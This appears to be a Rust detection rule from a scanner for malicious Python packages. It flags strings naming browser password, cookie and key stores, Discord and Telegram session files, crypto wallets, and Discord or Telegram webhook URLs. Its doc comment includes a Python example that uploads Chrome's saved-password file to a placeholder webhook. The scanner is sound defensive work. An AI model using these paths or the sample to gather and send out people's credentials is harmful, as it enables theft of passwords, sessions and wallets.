use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::finding::{Finding, Severity};
use crate::python::{FileAnalysis, names};
use crate::rules::{PackageFacts, Rule, RuleMeta, declare_rule, string_finding};

declare_rule! {
    /// Paths of browser password and cookie stores, chat session tokens and
    /// crypto wallets, and chat-bot webhooks used to send them.
    ///
    /// ## What it finds
    /// Strings (after constant evaluation) naming Chromium-family
    /// `Login Data`, `Local State`, `Cookies` and `Web Data`, Firefox
    /// `logins.json`/`key4.db`, Discord's `Local Storage\leveldb`, Telegram's
    /// `tdata`, wallet folders and extensions (Exodus, Electrum, Atomic,
    /// MetaMask), and Discord webhook or Telegram bot API URLs.
    ///
    /// ## Why it matters
    /// These are what the commonest PyPI stealers ("grabbers") collect and
    /// post to a webhook. A store named at install, startup or import time
    /// is high, at runtime medium (cookie libraries read browser stores);
    /// a store named in a file that also talks to the network or to a
    /// webhook is critical. A webhook URL alone is medium.
    ///
    /// ## Example
    /// ```python
    /// import os, requests
    /// db = os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default\\Login Data"
    /// requests.post("https://discord.com/api/webhooks/123/abc", files={"f": open(db, "rb")})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1555.003 (Credentials from Web Browsers), T1539 (Steal
    /// Web Session Cookie), T1567.004 (Exfiltration Over Webhook).
    pub struct AppSecrets {
        id: "AY202",
        slug: "browser-and-wallet-theft",
        category: CredentialAccess,
        severity: Critical,
    }
}

/// Stores, matched ASCII case-insensitively, and what they are.
const STORES: &[(&str, &str)] = &[
    ("\\login data", "browser saved passwords"),
    ("/login data", "browser saved passwords"),
    ("\\local state", "browser encryption key"),
    ("/local state", "browser encryption key"),
    ("\\network\\cookies", "browser cookies"),
    ("user data\\default\\cookies", "browser cookies"),
    ("\\web data", "browser autofill data"),
    ("logins.json", "Firefox saved passwords"),
    ("key4.db", "Firefox key store"),
    ("local storage\\leveldb", "Discord/Chromium session tokens"),
    ("local storage/leveldb", "Discord/Chromium session tokens"),
    ("telegram desktop\\tdata", "Telegram session"),
    ("exodus\\exodus.wallet", "Exodus wallet"),
    ("electrum\\wallets", "Electrum wallet"),
    ("atomic\\local storage", "Atomic wallet"),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "MetaMask wallet"),
];

/// Channels stealers post to.
const WEBHOOKS: &[(&str, &str)] = &[
    ("discord.com/api/webhooks/", "Discord webhook"),
    ("discordapp.com/api/webhooks/", "Discord webhook"),
    ("api.telegram.org/bot", "Telegram bot API"),
];

static STORE_MATCHER: LazyLock<AhoCorasick> = LazyLock::new(|| matcher(STORES));
static WEBHOOK_MATCHER: LazyLock<AhoCorasick> = LazyLock::new(|| matcher(WEBHOOKS));

fn matcher(table: &[(&str, &str)]) -> AhoCorasick {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(table.iter().map(|(needle, _)| needle))
        .expect("patterns compile")
}

fn lookup(m: &AhoCorasick, table: &[(&str, &'static str)], text: &str) -> Option<&'static str> {
    m.find(text).map(|hit| table[hit.pattern().as_usize()].1)
}

impl Rule for AppSecrets {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            let networked = talks_to_network(file);
            let mut seen = std::collections::BTreeSet::new();
            let (mut webhook, mut stores) = (false, false);
            let start = out.len();
            for s in &file.strings {
                if let Some(what) = lookup(&WEBHOOK_MATCHER, WEBHOOKS, &s.value) {
                    webhook = true;
                    if seen.insert((what, s.context)) {
                        let mut f = string_finding(&Self::META, file, s, format!("{what} URL"));
                        f.severity = Severity::Medium;
                        out.push(f);
                    }
                }
                let Some(what) = lookup(&STORE_MATCHER, STORES, &s.value) else {
                    continue;
                };
                if !seen.insert((what, s.context)) {
                    continue;
                }
                stores = true;
                let mut f = string_finding(&Self::META, file, s, format!("refers to {what}"));
                f.severity = if s.context.is_automatic() {
                    Severity::High
                } else {
                    Severity::Medium
                };
                out.push(f);
            }
            if stores && (networked || webhook) {
                for f in &mut out[start..] {
                    f.severity = Severity::Critical;
                    f.message
                        .push_str(", in a file that sends data over the network");
                }
            }
        }
    }
}

fn talks_to_network(file: &FileAnalysis) -> bool {
    file.calls.iter().any(|c| names::is_network(&c.name))
}
